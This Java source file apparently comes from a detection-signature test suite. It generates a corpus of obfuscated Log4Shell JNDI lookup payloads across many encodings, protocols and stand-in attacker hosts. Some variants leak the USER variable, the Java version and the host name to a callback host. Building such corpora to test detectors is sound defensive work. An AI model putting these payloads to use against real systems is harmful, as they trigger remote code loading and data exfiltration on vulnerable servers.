package io.periscope.detection.signature.quality;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BiFunction;

/**
 * Log4Shell positives built from the obfuscation families seen in the wild (December 2021 onwards: plain lookups,
 * case lookups, empty-default lookups, environment defaults, date and k8s/main lookups, the Turkish dotless i, nested
 * case, URL and JavaScript escaping, payloads inside user agents), for every JNDI provider and a few hosts.
 */
final class Log4ShellPayloads {
    private static final List<String> PROTOCOLS = List.of("ldap", "ldaps", "rmi", "dns", "iiop", "http", "corba",
            "nds", "nis");
    private static final List<String> HOSTS = List.of("203.0.113.7:1389/Exploit", "x.attacker.example/a",
            "c6r2.interact.sh/${env:USER}");

    private Log4ShellPayloads() {
    }

    static List<String> all() {
        List<BiFunction<String, String, String>> families = List.of(
                (p, h) -> "${jndi:" + p + "://" + h + "}",
                (p, h) -> "${${lower:j}ndi:" + p + "://" + h + "}",
                (p, h) -> "${${upper:j}${upper:n}${upper:d}${upper:i}:" + p + "://" + h + "}",
                (p, h) -> "${${::-j}${::-n}${::-d}${::-i}:" + each(p, "${::-", "}") + "://" + h + "}",
                (p, h) -> "${${env:NaN:-j}ndi${env:NaN:-:}" + each(p, "${env:NaN:-", "}") + "${env:NaN:-:}//" + h + "}",
                (p, h) -> "${j${k8s:k5:-ND}i${sd:k5:-:}" + p + "://" + h + "}",
                (p, h) -> "${${lower:jnd}${lower:i}:${lower:" + p + "}://" + h + "}",
                (p, h) -> "${jndi:${lower:" + p + "}://" + h + "}",
                (p, h) -> "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:" + p + "://" + h + "}",
                (p, h) -> "${j${main:\\k5:-Nd}i:" + p + "://" + h + "}",
                (p, h) -> "${jnd${upper:\u0131}:" + p + "://" + h + "}",
                (p, h) -> URLEncoder.encode("${jndi:" + p + "://" + h + "}", StandardCharsets.UTF_8),
                (p, h) -> "Mozilla/5.0 (X11; Linux x86_64) ${jndi:" + p + "://" + h + "} Firefox/95.0",
                (p, h) -> "${${::-J}ndi:" + p + "://" + h + "}",
                (p, h) -> "${jndi:" + p + "://" + h + "/${sys:java.version}/${hostName}}",
                (p, h) -> "${${lower:${lower:jndi}}:" + p + "://" + h + "}",
                (p, h) -> "${" + mixedCase("jndi") + ":" + mixedCase(p) + "://" + h + "}",
                (p, h) -> "\\u0024\\u007bjndi:" + p + "://" + h + "\\u007d",
                (p, h) -> "${${env:BARFOO:-j}ndi${env:BARFOO:-:}" + p + "://" + h + "}",
                (p, h) -> "${${lower:${::-j}}ndi:" + p + "://" + h + "}",
                (p, h) -> "%24%7B%24%7Blower%3Aj%7Dndi%3A" + p + "%3A%2F%2F" + h + "%7D");
        List<String> out = new ArrayList<>();
        for (BiFunction<String, String, String> f : families) {
            for (String p : PROTOCOLS) {
                for (String h : HOSTS) {
                    out.add(f.apply(p, h));
                }
            }
        }
        return out;
    }

    /** Every character of {@code word} as its own lookup: {@code ${::-l}${::-d}...}. */
    private static String each(String word, String open, String close) {
        StringBuilder sb = new StringBuilder();
        for (char c : word.toCharArray()) {
            sb.append(open).append(c).append(close);
        }
        return sb.toString();
    }

    private static String mixedCase(String word) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < word.length(); i++) {
            char c = word.charAt(i);
            sb.append(i % 2 == 0 ? Character.toUpperCase(c) : c);
        }
        return sb.toString();
    }
}
